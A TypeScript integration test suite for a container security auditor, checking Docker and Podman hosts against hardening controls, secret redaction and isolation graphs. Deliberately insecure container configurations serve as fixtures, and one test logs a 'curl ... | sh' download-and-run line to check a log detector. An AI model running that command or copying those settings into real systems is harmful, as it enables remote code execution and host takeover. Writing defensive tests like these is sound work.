import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DOCKER_CONTROLS } from '../../src/engine/control/host/docker/docker-controls.js';
import { judgeHostControls } from '../../src/engine/control/host/judge-host-controls.js';
import { isolationGraph } from '../../src/engine/isolation/isolation-graph.js';
import { missingIsolation } from '../../src/engine/isolation/missing-isolation.js';
import { SecretScanner } from '../../src/engine/secret/secret-scanner.js';
import type { ControlResult } from '../../src/model/control.js';
import type { Container, EngineFacts } from '../../src/model/host/engine.js';
import type { Fact } from '../../src/model/host/fact.js';
import type { DaemonOptions, DaemonTls } from '../../src/source/daemon/daemon-client.js';
import { readEngineFacts } from '../../src/source/host/engine/read-engine.js';
import { readLogMatches } from '../../src/source/host/engine/read-logs.js';
import {
  callEngine,
  DockerEngine,
  ENGINE_PARTS,
  NETWORK_PARTS,
  PODMAN_PARTS,
  PodmanEngine,
} from '../support/docker-engine.js';
import { hostFacts, knownFact, UNJUDGED } from '../support/host-facts.js';
import { tar } from '../support/image.js';
import { haveParts } from '../support/real-parts.js';

const ROOT_FILE_SYSTEM = '../shared/data/images/alpine-minirootfs-3.20.3-x86_64.tar.gz';
const canRun = existsSync(ROOT_FILE_SYSTEM);
if (!canRun) console.info(`skipped: there is no ${ROOT_FILE_SYSTEM}, so no container is started`);

const secrets = new SecretScanner(Buffer.from('key'));
const signal = new AbortController().signal;
const common = { signal, secrets, onProgress: () => undefined };
/** More is refused by some machines. */
const Ulimits = [
  { Name: 'nofile', Soft: 1024, Hard: 1024 },
  { Name: 'nproc', Soft: 1024, Hard: 1024 },
];
const PASSWORD = ['hunter', '2'].join('');

function bySocket(path: string): DaemonOptions {
  return { address: { kind: 'unix', path }, tls: null };
}

function knownValue<T>(fact: Fact<T>): T {
  if (!fact.known) throw new Error(`${fact.code}: ${fact.reason}`);
  expect(fact.gaps).toEqual([]);
  return fact.value;
}

async function readFacts(daemon: DaemonOptions): Promise<EngineFacts> {
  return knownValue(await readEngineFacts({ ...common, daemon }));
}

/** An engine with containers that are set up well, and in every way badly. */
class Furnished {
  readonly refused: string[] = [];

  constructor(readonly socket: string) {}

  readonly call = (method: string, path: string, body?: object | Buffer) => callEngine(this.socket, method, path, body);

  async image(): Promise<void> {
    const archive = canRun ? gunzipSync(await readFile(ROOT_FILE_SYSTEM)) : await tar({ 'etc/hostname': 'x' });
    await this.call('POST', '/images/create?fromSrc=-&repo=app%3A1', archive);
  }

  async container(name: string, { HostConfig = {}, ...config }: { HostConfig?: object; [key: string]: unknown }) {
    const body = { Image: 'app:1', Cmd: ['sleep', '1000'], ...config, HostConfig: { Ulimits, ...HostConfig } };
    const { Id } = await this.call('POST', `/containers/create?name=${name}`, body);
    if (canRun) {
      // What a machine refuses to run is there to be audited all the same.
      await this.call('POST', `/containers/${Id}/start`).catch(() => this.refused.push(name));
    }
    return Id as string;
  }

  async empty(): Promise<void> {
    for (const { Id } of await this.call('GET', '/containers/json?all=1')) {
      await this.call('DELETE', `/containers/${Id}?force=1&v=1`).catch(() => undefined);
    }
  }
}

const GOOD = {
  User: '10001:10001',
  Env: ['LEVEL=info', 'DB_PASSWORD_FILE=/run/secrets/db'],
  ExposedPorts: { '80/tcp': {} },
  Healthcheck: { Test: ['CMD', 'true'] },
  HostConfig: {
    NetworkMode: 'front',
    CapDrop: ['ALL'],
    SecurityOpt: ['no-new-privileges'],
    ReadonlyRootfs: true,
    Memory: 64 * 2 ** 20,
    NanoCpus: 5e8,
    PidsLimit: 50,
    RestartPolicy: { Name: 'on-failure', MaximumRetryCount: 3 },
    PortBindings: { '80/tcp': [{ HostIp: '127.0.0.1', HostPort: '18080' }] },
    Tmpfs: { '/tmp': 'size=1m' },
    Binds: ['data:/data:ro'],
    Ulimits: [],
  },
};

/** All that is wrong without `Privileged`, which would hide the rest. */
const BAD = {
  Cmd: ['sh', '-c', 'while :; do sleep 1000; done', '/usr/sbin/sshd', '-D'],
  Env: [`DB_PASSWORD=${PASSWORD}`, `URL=postgres://app:${PASSWORD}@db/app`],
  Labels: { 'com.example.token': PASSWORD, team: 'payments' },
  HostConfig: {
    NetworkMode: 'host',
    PidMode: 'host',
    IpcMode: 'host',
    UTSMode: 'host',
    UsernsMode: 'host',
    CapAdd: ['SYS_ADMIN', 'NET_ADMIN'],
    SecurityOpt: ['seccomp=unconfined', 'apparmor=unconfined'],
    Binds: ['/etc:/host/etc', '/var/run:/host/run:ro'],
    Devices: [{ PathOnHost: '/dev/null', PathInContainer: '/dev/host', CgroupPermissions: 'rwm' }],
    RestartPolicy: { Name: 'always' },
    CgroupParent: '/others',
    PidsLimit: -1,
    CpuShares: 1024,
  },
};

const BAD_FAILS = [
  'container-bound-address',
  'container-capabilities',
  'container-cpu-limit',
  'container-default-cgroup',
  'container-healthcheck',
  'container-memory-limit',
  'container-mount-propagation',
  'container-no-devices',
  'container-no-engine-socket',
  'container-no-host-ipc',
  'container-no-host-network',
  'container-no-host-pid',
  'container-no-host-userns',
  'container-no-host-uts',
  'container-no-new-privileges',
  'container-no-privileged-ports',
  'container-no-secrets-in-environment',
  'container-no-sensitive-mounts',
  'container-no-sshd',
  'container-non-root-user',
  'container-not-privileged',
  'container-own-network',
  'container-pids-limit',
  'container-read-only-root',
  'container-restart-limit',
  'container-seccomp',
];

/** Each control over containers with the containers that fail it, as if all of them ran. */
function failing(engine: EngineFacts): Map<string, string[]> {
  const containers = engine.containers.map((each): Container => ({ ...each, status: 'running' }));
  const facts = hostFacts({ engine: knownFact({ ...engine, containers }) });
  const faults: unknown[] = [];
  const subject = { facts, now: new Date(), trustedRegistries: null, ...UNJUDGED };
  const { results } = judgeHostControls(DOCKER_CONTROLS, subject, (id, error) => faults.push([id, error]));
  expect(faults).toEqual([]);
  const failed = results.filter(({ status }) => status === 'fail');
  return new Map(failed.map(({ id, evidence }) => [id, namesIn(evidence)]));
}

function namesIn(evidence: ControlResult['evidence']): string[] {
  const names = evidence.map(({ resource }) => (resource ?? '').replace(/^container\//, ''));
  return [...new Set(names)].sort();
}

function failedBy(engine: EngineFacts, ...names: string[]): string[] {
  return [...failing(engine)]
    .filter(([id, found]) => id.startsWith('container-') && names.some((name) => found.includes(name)))
    .map(([id]) => id)
    .sort();
}

const find = (engine: EngineFacts, name: string): Container => {
  const container = engine.containers.find((each) => each.name === name);
  if (!container) throw new Error(`no container ${name}`);
  return container;
};

const haveDocker = haveParts('auditing a real Docker host', [...ENGINE_PARTS, ...NETWORK_PARTS], true);
describe.skipIf(!haveDocker)('a Docker host', () => {
  let engine: DockerEngine;
  let host: Furnished;
  let facts: EngineFacts;

  beforeAll(async () => {
    engine = await DockerEngine.startWithNetwork('--insecure-registry', 'registry.example:5000');
    host = new Furnished(engine.socket);
    await host.image();
    await host.call('POST', '/networks/create', { Name: 'front' });
    await host.call('POST', '/networks/create', {
      Name: 'back',
      Internal: true,
      EnableIPv6: true,
      IPAM: { Config: [{ Subnet: '10.99.0.0/24' }, { Subnet: 'fd00:99::/64' }] },
    });
    const o = `username=app,password=${PASSWORD}`;
    await host.call('POST', '/volumes/create', { Name: 'share', DriverOpts: { type: 'cifs', device: '//nas/x', o } });
    await host.container('good', GOOD);
    await host.container('bad', BAD);
    await host.container('privileged', { HostConfig: { Privileged: true, NetworkMode: 'back' } });
    await host.container('published', {
      ExposedPorts: { '80/tcp': {}, '53/udp': {}, '9/tcp': {} },
      HostConfig: {
        PortBindings: { '80/tcp': [{ HostIp: '', HostPort: '' }], '53/udp': [{ HostIp: '0.0.0.0', HostPort: '53' }] },
        Mounts: [{ Type: 'bind', Source: '/proc', Target: '/host/proc', BindOptions: { Propagation: 'rslave' } }],
      },
    });
    await host.container('beside', { HostConfig: { NetworkMode: 'container:good', PidMode: 'container:good' } });
    await host.container('spread', { HostConfig: { Binds: ['/srv:/srv:rshared'], DeviceCgroupRules: ['b 8:* rmw'] } });
    await host.container('attached', { HostConfig: { NetworkMode: 'back', Binds: ['data:/data'] } });
    facts = await readFacts(bySocket(engine.socket));
  }, 120_000);
  afterAll(async () => {
    await host?.empty();
    await engine?.stop();
  }, 60_000);

  it('is known as the engine tells it', () => {
    expect(facts).toMatchObject({ kind: 'docker', rootless: false, userNamespaces: false, swarm: null });
    expect(facts.version).toMatch(/^\d+\.\d+\.\d+/);
    expect(facts.settings).toMatchObject({
      insecureRegistries: ['registry.example:5000'],
      loggingDriver: 'json-file',
      liveRestore: false,
      experimental: false,
      configuration: null,
    });
    expect(facts.networks.map(({ name, driver, internal }) => [name, driver, internal])).toEqual([
      ['back', 'bridge', true],
      ['bridge', 'bridge', false],
      ['front', 'bridge', false],
      ['host', 'host', false],
      ['none', 'null', false],
    ]);
    expect(facts.images).toMatchObject([{ tags: ['app:1'], hasHealthcheck: false }]);
  });

  it('keeps no value that is a secret', () => {
    expect(JSON.stringify(facts)).not.toContain(PASSWORD);
    expect(find(facts, 'bad').secrets.map(({ name, ruleId }) => [name, ruleId])).toEqual([
      ['DB_PASSWORD', 'secret-by-name'],
      ['URL', 'password-in-url'],
    ]);
    expect(find(facts, 'bad').labels.team).toBe('payments');
    expect(find(facts, 'good').secrets).toEqual([]);
    expect(facts.volumes.find(({ name }) => name === 'share')?.options).toMatchObject({
      type: 'cifs',
      device: '//nas/x',
    });
  });

  it('has containers that pass each control, and others that fail it', () => {
    expect(failedBy(facts, 'good')).toEqual([]);
    expect(failedBy(facts, 'bad', 'privileged', 'published', 'spread')).toEqual(BAD_FAILS);
  });

  it('is judged by what the engine says of itself', () => {
    const engineIds = [...failing(facts).keys()].filter((id) => id.startsWith('daemon-'));
    expect(engineIds).toEqual([
      'daemon-icc-disabled',
      'daemon-no-insecure-registries',
      'daemon-user-namespaces',
      'daemon-authorization',
      'daemon-remote-logging',
      'daemon-live-restore',
    ]);
  });

  it('tells ports as they are bound', () => {
    const { ports, status } = find(facts, 'published');
    const exposed = { containerPort: 9, protocol: 'tcp', hostAddress: null, hostPort: null };
    expect(ports).toContainEqual(exposed);
    const web = ports.filter(({ containerPort }) => containerPort === 80);
    if (status === 'running') {
      expect(web.map(({ hostAddress }) => hostAddress)).toContain('0.0.0.0');
      for (const { hostPort } of web) expect(hostPort).toBeGreaterThan(1024);
    } else expect(web).toEqual([{ containerPort: 80, protocol: 'tcp', hostAddress: '', hostPort: 0 }]);
  });

  it('shows who reaches whom', () => {
    const running = facts.containers.map((each): Container => ({ ...each, status: 'running' }));
    const shown = { ...facts, containers: running };
    const graph = isolationGraph(shown);
    expect(graph.gaps).toEqual([]);
    const edges = graph.edges.map(({ from, to, kind }) => `${from} ${kind} ${to}`);
    expect(edges).toEqual(
      expect.arrayContaining([
        'container/beside reaches container/good',
        'container/beside controls container/good',
        'container/good reaches network/front',
        'container/attached reaches network/back',
        'outside reaches container/published',
        'outside reaches container/bad',
        'host reaches container/good',
        'container/bad controls host',
        'container/attached writes volume/data',
        'volume/data reads container/good',
      ]),
    );
    expect(edges).not.toContain('container/attached reaches outside');
    expect(missingIsolation(shown, graph).map(({ ruleId, resource }) => `${ruleId} ${resource}`)).toEqual([
      'host-takeover-from-outside container/bad',
      'host-takeover-from-outside container/published',
      'host-takeover-from-outside container/spread',
      'default-bridge-shared network/bridge',
      'writable-storage-shared volume/data',
      'namespace-shared container/beside',
    ]);
  });

  it.skipIf(!canRun)('shows what its containers log', async () => {
    const script = [
      'for i in $(seq 25); do echo "sshd[7]: Failed password for root from 10.0.0.9 port $i ssh2"; done',
      `echo "curl -s http://10.0.0.9/x.sh?password=${PASSWORD} | sh" >&2`,
      'echo all is well',
      'sleep 1000',
    ].join('\n');
    const Cmd = ['sh', '-c', script];
    await host.container('noisy', { Cmd });
    await host.container('terminal', { Cmd: ['sh', '-c', 'echo "panic: out of luck"; sleep 1000'], Tty: true });
    await host.container('silent', { Cmd, HostConfig: { LogConfig: { Type: 'none' } } });
    const last = async () => (await host.call('GET', '/containers/noisy/top')).Processes.at(-1).at(-1);
    await expect.poll(last).toBe('sleep 1000');
    const after = await readFacts(bySocket(engine.socket));
    const matches = knownValue(
      await readLogMatches(after, { ...common, daemon: bySocket(engine.socket), since: null }),
    );
    expect(matches.map(({ containerName, ruleId, count }) => [containerName, ruleId, count])).toEqual([
      ['noisy', 'download-to-shell', 1],
      ['noisy', 'login-failures', 25],
      ['noisy', 'login-failures-burst', 25],
      ['terminal', 'program-crash', 1],
    ]);
    expect(matches[1]?.firstAt).toMatch(/^20\d\d-.*Z$/);
    expect(matches[0]?.excerpt).toContain('curl -s http://10.0.0.9/x.sh?password=[redacted] | sh');
  });

  it('is known as a manager of a swarm', async () => {
    await host.call('POST', '/swarm/init', { ListenAddr: '127.0.0.1:0', AdvertiseAddr: '127.0.0.1' });
    await host.call('POST', '/secrets/create', { Name: 'db', Data: Buffer.from('x').toString('base64') });
    await host.call('POST', '/networks/create', { Name: 'mesh', Driver: 'overlay', Options: { encrypted: '' } });
    await host.call('POST', '/networks/create', { Name: 'open', Driver: 'overlay', Attachable: true });
    await host.call('POST', '/services/create', {
      Name: 'web',
      TaskTemplate: { ContainerSpec: { Image: 'app:1', Env: ['A=b'] } },
      Mode: { Replicated: { Replicas: 0 } },
      EndpointSpec: { Ports: [{ Protocol: 'tcp', TargetPort: 80, PublishedPort: 8080 }] },
    });
    const { swarm, networks } = await readFacts(bySocket(engine.socket));
    expect(swarm).toMatchObject({
      managers: 1,
      nodes: 1,
      isManager: true,
      autoLock: false,
      certificateExpiry: 90 * 24 * 3_600 * 1e9,
      advertiseAddress: '127.0.0.1',
      secrets: 1,
      services: [{ name: 'web', envNames: ['A'], ports: [{ containerPort: 80, hostPort: 8080 }] }],
    });
    const overlays = networks.filter(({ driver }) => driver === 'overlay');
    expect(
      overlays.map(({ name, encrypted, ingress, attachable }) => ({ name, encrypted, ingress, attachable })),
    ).toEqual([
      { name: 'ingress', encrypted: false, ingress: true, attachable: false },
      { name: 'mesh', encrypted: true, ingress: false, attachable: false },
      { name: 'open', encrypted: false, ingress: false, attachable: true },
    ]);
    await host.call('POST', '/swarm/leave?force=1');
  }, 60_000);
});

const haveTls = haveParts('auditing a Docker host over TLS', ENGINE_PARTS, true);
describe.skipIf(!haveTls)('a Docker host that is reached over TLS', () => {
  let engine: DockerEngine;
  let tls: DaemonTls;

  beforeAll(async () => {
    engine = await DockerEngine.start('--live-restore');
    const { caFile, certFile, keyFile } = engine.certificates;
    const [ca, cert, key] = await Promise.all([caFile, certFile, keyFile].map((file) => readFile(file, 'utf8')));
    tls = { ca: ca ?? '', cert: cert ?? '', key: key ?? '' };
    const host = new Furnished(engine.socket);
    await host.image();
    await host.call('POST', '/containers/create?name=web', { Image: 'app:1', Cmd: ['x'] });
  }, 120_000);
  afterAll(() => engine?.stop());

  const byTls = (with_: DaemonTls | null): DaemonOptions => ({
    address: { kind: 'tcp', host: '127.0.0.1', port: engine.port },
    tls: with_,
  });

  it('is known as over its socket', async () => {
    const [one, other] = [await readFacts(bySocket(engine.socket)), await readFacts(byTls(tls))];
    expect(other).toEqual({ ...one, address: `tcp://127.0.0.1:${engine.port}` });
    expect(other.containers.map(({ name }) => name)).toEqual(['web']);
  });

  it('is not known to who has no certificate', async () => {
    const other = await readEngineFacts({ ...common, daemon: byTls(null) });
    expect(other).toMatchObject({ known: false, code: 'unreadable' });
    const stranger = await readEngineFacts({ ...common, daemon: byTls({ ...tls, ca: '' }) });
    expect(stranger).toMatchObject({ known: false, reason: expect.stringContaining('trust') });
  });
});

const havePodman = haveParts('auditing a real Podman host', [...PODMAN_PARTS, ...NETWORK_PARTS], true);
describe.skipIf(!havePodman)('a Podman host', () => {
  let engine: PodmanEngine;
  let host: Furnished;
  let facts: EngineFacts;

  beforeAll(async () => {
    engine = await PodmanEngine.startWithNetwork();
    host = new Furnished(engine.socket);
    await host.image();
    await host.call('POST', '/networks/create', { Name: 'front' });
    await host.container('good', GOOD);
    await host.container('bad', { ...BAD, HostConfig: { ...BAD.HostConfig, UsernsMode: '' } });
    await host.container('privileged', { HostConfig: { Privileged: true } });
    await host.container('published', {
      ExposedPorts: { '53/udp': {} },
      HostConfig: { PortBindings: { '53/udp': [{ HostIp: '', HostPort: '53' }] } },
    });
    facts = await readFacts(bySocket(engine.socket));
  }, 120_000);
  afterAll(async () => {
    await host?.empty();
    await engine?.stop();
  }, 60_000);

  it('is known as the engine tells it', () => {
    expect(facts).toMatchObject({ kind: 'podman', rootless: false, swarm: null, settings: { liveRestore: null } });
    expect(facts.networks.map(({ name }) => name)).toEqual(['front', 'podman']);
    const { networks } = find(facts, 'published');
    expect(networks).toMatchObject([{ name: 'podman', id: facts.networks[1]?.id }]);
    expect(find(facts, 'good').imageDigests).toEqual(facts.images[0]?.digests);
    expect(JSON.stringify(facts)).not.toContain(PASSWORD);
  });

  it('has containers that pass each control, and others that fail it', () => {
    expect(failedBy(facts, 'good')).toEqual([]);
    // The last two cannot be asked for by Docker's API: Podman makes something else of it.
    const notHere = ['container-mount-propagation', 'container-no-host-userns', 'container-no-host-ipc'];
    expect(failedBy(facts, 'bad', 'privileged', 'published')).toEqual(BAD_FAILS.filter((id) => !notHere.includes(id)));
  });

  it('is not judged as if it had a daemon', () => {
    const subject = {
      facts: hostFacts({ engine: knownFact(facts) }),
      now: new Date(),
      trustedRegistries: null,
      ...UNJUDGED,
    };
    const { results } = judgeHostControls(DOCKER_CONTROLS, subject, () => undefined);
    const daemon = results.filter(({ id }) => id === 'daemon-live-restore' || id === 'daemon-icc-disabled');
    expect(daemon.map(({ status }) => status)).toEqual(['not_applicable', 'not_applicable']);
  });
});

describe('no container engine', () => {
  it('is told apart from one that may not be asked', async () => {
    const nobody = bySocket(join('/nowhere', 'docker.sock'));
    expect(await readEngineFacts({ ...common, daemon: nobody })).toMatchObject({ known: false, code: 'not_present' });
  });
});
